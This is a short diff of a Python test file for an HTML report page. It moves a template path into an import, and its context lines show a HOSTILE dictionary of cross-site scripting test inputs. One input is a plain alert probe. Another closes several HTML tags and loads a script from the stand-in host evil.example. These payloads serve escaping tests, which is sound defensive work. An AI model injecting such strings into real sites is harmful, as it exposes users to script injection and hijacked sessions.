@@ -13,10 +13,9 @@ from reliance.base.artifacts import derived_stamp
 from reliance.base.claims import Finding
 from reliance.report import provenance, rows
 from reliance.report.markup import data_uri, markdown, read_grid
-from reliance.report.page import ROWS, Shown, verdicts, write_page
+from reliance.report.page import ROWS, TEMPLATE, Shown, verdicts, write_page
 from report.test_page import values as template_values
 
-TEMPLATE = Path(__file__).parents[2] / "workflow/report/page.html.j2"
 HOSTILE = {
     "script": "<script>alert(1)</script>",
     "closed before": '"></td></bdi></title></style><script src=//evil.example/x.js></script>',
